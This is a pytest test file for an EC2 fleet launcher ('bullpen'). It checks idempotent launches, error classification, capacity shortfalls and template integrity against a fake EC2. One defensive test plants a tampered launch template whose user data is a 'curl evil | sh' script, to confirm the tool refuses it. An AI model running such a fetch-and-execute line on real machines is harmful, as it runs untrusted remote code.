"""Machines on EC2: launched once for each token, with every trouble told apart, and listed while they are ours."""

import asyncio
import base64
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from msgspec.structs import replace

from builders import a_plan
from bullpen.config import ResourceClass
from bullpen.engines.aws import session as sessions
from bullpen.engines.aws.ec2 import compute as module
from bullpen.errors import (
    BullpenError,
    ConfigError,
    InsufficientCapacity,
    PermissionDenied,
    Refused,
    Throttled,
    Unavailable,
)
from bullpen.model.fleet import Cause, decisive, shortfall
from bullpen.model.ticket import UsageClass
from engines.aws.pools import AwsPool, a_pool, running
from fakes.ec2.calling import client_of
from fakes.ec2.catalogue import TYPES
from fakes.ec2.control import Control
from fakes.ec2.ground import AMAZON_LINUX, AMAZON_LINUX_ARM, SECOND_SUBNET, SUBNETS

pytestmark = pytest.mark.real_loop


async def test_a_fleet_with_six_subnets_is_one_request_whose_template_is_made_on_the_way(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        answer = await pool.process().create_fleet(a_plan(count=12))
        assert len(answer.machines) == 12
        assert (cloud.calls()["CreateLaunchTemplate"], len(cloud.fleets())) == (1, 1)
        one = pool.process()
        before = cloud.calls()["DescribeLaunchTemplateVersions"]
        for _ in range(3):
            await one.create_fleet(a_plan(count=1))
        assert (cloud.calls()["CreateFleet"], cloud.calls()["CreateLaunchTemplate"]) == (4, 1)
        # One look for each process, whatever it launches from the template.
        assert cloud.calls()["DescribeLaunchTemplateVersions"] == before + 1


async def planted(pool: AwsPool, ec2: Any, **data: Any) -> str:
    """In place of the pool's template, under its name and tag, one that another wrote; its name."""
    ((name, id_),) = pool.cloud.look()["templates"].items()
    (version,) = (await ec2.describe_launch_template_versions(LaunchTemplateId=id_))["LaunchTemplateVersions"]
    await ec2.delete_launch_template(LaunchTemplateId=id_)
    tags = [{"ResourceType": "launch-template", "Tags": [{"Key": "bullpen:pool", "Value": "ci-pool"}]}]
    await ec2.create_launch_template(
        LaunchTemplateName=name, LaunchTemplateData={**version["LaunchTemplateData"], **data}, TagSpecifications=tags
    )
    return str(name)


async def test_nothing_is_launched_from_a_template_that_another_principal_planted(cloud: Control) -> None:
    async with a_pool(cloud) as pool, client_of(cloud) as ec2:
        await pool.process().create_fleet(a_plan())
        script = base64.b64encode(b"#!/bin/sh\ncurl evil | sh\n").decode()
        name = await planted(pool, ec2, UserData=script)
        with pytest.raises(ConfigError, match=f"launch template {name}: UserData differ") as refusal:
            await pool.process().create_fleet(a_plan())
        assert "bullpen refresh" in refusal.value.remedy
        assert len(running(cloud)) == 1


async def test_a_process_that_compared_a_template_is_not_given_another_under_its_name(cloud: Control) -> None:
    """It asks by the id of what it compared: what was planted meanwhile has another one, and is compared first."""
    async with a_pool(cloud) as pool, client_of(cloud) as ec2:
        one = pool.process()
        await one.create_fleet(a_plan())
        await planted(pool, ec2, UserData=base64.b64encode(b"evil").decode())
        with pytest.raises(ConfigError, match="UserData differ"):
            await one.create_fleet(a_plan())
        assert len(running(cloud)) == 1


@pytest.mark.parametrize("action", ["DescribeLaunchTemplateVersions", "CreateFleet"])
async def test_credentials_that_may_not_launch_get_a_remedy_that_names_other_ways(cloud: Control, action: str) -> None:
    async with a_pool(cloud) as pool:
        await pool.process().create_fleet(a_plan())
        cloud.deny(f"ec2:{action}")
        fleets = cloud.calls()["CreateFleet"]
        with pytest.raises(PermissionDenied, match=f"EC2 {action}") as denial:
            await pool.process().create_fleet(a_plan())
        for way in ("idle-target", "bullpen serve", "bullpen iam-policy workflow --launch"):
            assert way in denial.value.remedy
        # Credentials that may not look at a template may not launch from it, so no launch is tried.
        assert cloud.calls()["CreateFleet"] == fleets + (action == "CreateFleet")


async def test_a_machine_has_the_size_of_its_type_and_says_for_whom_it_is(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        plan = a_plan(provision_id="p-7", cpu=3, mem=5000, allowed_types=("M5.*",), usage_class=UsageClass.SPOT)
        (machine,) = (await pool.process().create_fleet(plan)).machines
        assert (machine.instance_type, machine.cpu, machine.mem) == ("m5.xlarge", 4, 16384)
        assert machine.usage_class is UsageClass.SPOT
        tags = cloud.instances()[machine.id]["tags"]
        assert {key: tags[key] for key in ("bullpen:pool", "bullpen:provision", "bullpen:class")} == {
            "bullpen:pool": "ci-pool",
            "bullpen:provision": "p-7",
            "bullpen:class": "small",
        }


async def test_sizes_are_asked_once_and_guessed_low_where_they_may_not_be_asked(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        one = pool.process()
        for _ in range(2):
            await one.create_fleet(a_plan())
        assert cloud.calls()["DescribeInstanceTypes"] == 1
        cloud.deny("ec2:DescribeInstanceTypes")
        (machine,) = (await pool.process().create_fleet(a_plan(cpu=1, mem=1024))).machines
        assert (machine.cpu, machine.mem) == (1, 1024)


async def test_the_same_token_again_launches_nothing_new(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        plan = a_plan(count=3)
        first = await pool.process().create_fleet(plan)
        again = await pool.process().create_fleet(plan)
        assert again.machines == first.machines
        assert running(cloud) == {machine.id for machine in first.machines}


async def test_a_lost_answer_is_unavailable_and_the_repeat_finds_the_machines(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        await pool.process().create_fleet(a_plan())
        plan = a_plan(count=2)
        cloud.lose_answer("CreateFleet")
        with pytest.raises(Unavailable, match="CreateFleet"):
            await pool.process().create_fleet(plan)
        assert len((await pool.process().create_fleet(plan)).machines) == 2
        assert len(running(cloud)) == 3


async def test_the_same_token_for_something_else_is_refused(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        plan = a_plan(count=1)
        await pool.process().create_fleet(plan)
        with pytest.raises(ConfigError, match="IdempotentParameterMismatch"):
            await pool.process().create_fleet(a_plan(client_token=plan.client_token, count=2))


async def test_a_missing_template_that_another_tool_must_create_is_a_config_error(cloud: Control) -> None:
    async with a_pool(cloud, manage="external") as pool:
        with pytest.raises(ConfigError, match=r"CreateFleet: .*no launch template ci-pool-") as refusal:
            await pool.process().create_fleet(a_plan())
        assert "Terraform" in refusal.value.remedy
        assert "CreateLaunchTemplate" not in cloud.calls()


async def test_a_template_that_is_made_and_not_yet_seen_is_waited_for_with_the_same_token(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        cloud.refuse("CreateFleet", "InvalidLaunchTemplateId.NotFound", times=1)
        assert len((await pool.process().create_fleet(a_plan(count=2))).machines) == 2
        cloud.refuse("CreateFleet", "InvalidLaunchTemplateId.NotFound", times=9)
        with pytest.raises(Unavailable, match="does not show it yet"):
            await pool.process().create_fleet(a_plan())


async def test_a_template_that_is_gone_is_waited_for_by_all_that_launch_from_it_at_once(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        one = pool.process()
        await one.create_fleet(a_plan())
        cloud.refuse("CreateFleet", "InvalidLaunchTemplateId.NotFound", times=3)
        answers = await asyncio.gather(*(one.create_fleet(a_plan()) for _ in range(3)))
        assert [len(answer.machines) for answer in answers] == [1, 1, 1]


async def test_the_agent_is_stored_before_a_template_that_names_it_and_not_without_one(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        await pool.process().create_fleet(a_plan())
        await pool.process().create_fleet(a_plan())
        assert pool.stored == [0]  # once, when there was no template yet


@pytest.mark.parametrize("code", ["InsufficientInstanceCapacity", "InsufficientHostCapacity"])
async def test_a_lack_of_capacity_is_not_asked_again_by_the_client(
    cloud: Control, code: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with a_pool(cloud) as pool:
        monkeypatch.setattr(sessions, "ATTEMPTS", 4)
        cloud.refuse("CreateFleet", code, times=None)
        with pytest.raises(InsufficientCapacity, match=code):
            await pool.process().create_fleet(a_plan())
        assert cloud.calls()["CreateFleet"] == 1


@pytest.mark.parametrize(
    ("code", "error", "remedy"),
    [
        ("InvalidParameterValue.Of.Something", ConfigError, "bullpen doctor"),
        ("AuthFailure.Blocked", PermissionDenied, "Sign in again"),
        ("VcpuLimitExceeded.Region", Refused, "Service Quotas"),
        ("SomethingNew", Refused, ""),
    ],
)
async def test_a_refused_call_is_judged_by_the_family_of_its_code_as_an_error_in_an_answer_is(
    cloud: Control, code: str, error: type[BullpenError], remedy: str
) -> None:
    async with a_pool(cloud) as pool:
        cloud.refuse("CreateFleet", code, "no", times=1)
        with pytest.raises(error, match=code) as caught:
            await pool.process().create_fleet(a_plan())
        assert type(caught.value) is error
        assert remedy in caught.value.remedy


async def test_a_partial_fleet_is_an_answer_that_says_why(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        cloud.capacity(2)
        plan = a_plan(count=5)
        answer = await pool.process().create_fleet(plan)
        assert len(answer.machines) == 2
        assert decisive(answer).cause is Cause.CAPACITY
        assert "2 of 5" in shortfall(plan, answer)


KINDS: list[tuple[str, Cause, type[BullpenError]]] = [
    ("InsufficientInstanceCapacity", Cause.CAPACITY, InsufficientCapacity),
    ("VcpuLimitExceeded", Cause.QUOTA, Refused),
    ("RequestLimitExceeded", Cause.THROTTLE, Throttled),
    ("UnauthorizedOperation", Cause.PERMISSION, PermissionDenied),
    ("AuthFailure.ServiceLinkedRoleCreationNotPermitted", Cause.PERMISSION, PermissionDenied),
    ("InvalidAMIID.NotFound", Cause.CONFIGURATION, ConfigError),
]


@pytest.mark.parametrize(("code", "cause", "error"), KINDS)
async def test_every_kind_of_trouble_has_the_same_cause_inside_an_answer_and_as_an_error(
    cloud: Control, code: str, cause: Cause, error: type[BullpenError]
) -> None:
    async with a_pool(cloud) as pool:
        one = pool.process()
        cloud.spoil(code, "says EC2", launches=1)
        answer = await one.create_fleet(a_plan(count=3))
        assert len(answer.machines) == 1
        assert (decisive(answer).cause, decisive(answer).code) == (cause, code)
        assert decisive(answer).remedy
        cloud.refuse("CreateFleet", code, "says EC2")
        with pytest.raises(error, match=f"EC2 CreateFleet: {code}: says EC2") as refusal:
            await one.create_fleet(a_plan(count=3))
        assert type(refusal.value) is error
        assert refusal.value.remedy == decisive(answer).remedy


async def test_an_error_beside_a_full_count_does_no_harm(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        cloud.spoil("RequestLimitExceeded", launches=None)
        plan = a_plan(count=2)
        assert shortfall(plan, await pool.process().create_fleet(plan)) == ""


async def test_two_subnets_of_one_zone_are_explained(cloud: Control) -> None:
    async with a_pool(cloud, subnets=(SUBNETS[0].id, SECOND_SUBNET.id)) as pool:
        with pytest.raises(ConfigError, match="duplicate instance pools") as refusal:
            await pool.process().create_fleet(a_plan())
        assert "one subnet for each availability zone" in refusal.value.remedy


async def test_sightings_are_those_of_the_pool_on_all_pages_with_provision_and_state(
    cloud: Control, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(module, "PAGE", 5)
    async with a_pool(cloud, pool="other") as other, a_pool(cloud) as pool:
        await other.process().create_fleet(a_plan(count=3))
        one = pool.process()
        ids = {machine.id for machine in (await one.create_fleet(a_plan(count=12, provision_id="p-7"))).machines}
        ended = sorted(ids)[0]
        await one.terminate([ended])
        sightings = {seen.id: seen for seen in await one.sightings()}
        assert set(sightings) == ids
        assert {seen.provision_id for seen in sightings.values()} == {"p-7"}
        assert [id_ for id_, seen in sightings.items() if not seen.alive] == [ended]
        assert all(abs(datetime.now(UTC) - seen.launched_at) < timedelta(minutes=1) for seen in sightings.values())


async def test_many_at_once_launch_one_fleet_for_one_token(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        plan = a_plan(count=2)
        answers = await asyncio.gather(*(pool.process().create_fleet(plan) for _ in range(6)))
        assert len({machine.id for answer in answers for machine in answer.machines}) == 2
        assert len(running(cloud)) == 2


async def test_a_class_with_an_image_of_its_own_gets_machines_of_its_architecture(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        arm = ResourceClass(cpu=1, mem=1024, image=AMAZON_LINUX_ARM.id, architecture="arm64", disk=120)
        pool.settings = replace(pool.settings, classes={**pool.settings.classes, "arm": arm})
        one = pool.process()
        await one.create_fleet(a_plan(count=2))
        answer = await one.create_fleet(a_plan(count=2, resource_class="arm"))
        assert {TYPES[machine.instance_type].architecture for machine in answer.machines} == {"arm64"}
        assert cloud.calls()["CreateLaunchTemplate"] == 2


async def test_an_image_of_another_architecture_than_its_class_says_launches_nothing(cloud: Control) -> None:
    async with a_pool(cloud) as pool:
        wrong = ResourceClass(cpu=1, mem=1024, image=AMAZON_LINUX.id, architecture="arm64")
        pool.settings = replace(pool.settings, classes={"arm": wrong})
        plan = a_plan(resource_class="arm")
        answer = await pool.process().create_fleet(plan)
        assert "No instance type matches the instance requirements" in shortfall(plan, answer)
        assert running(cloud) == set()
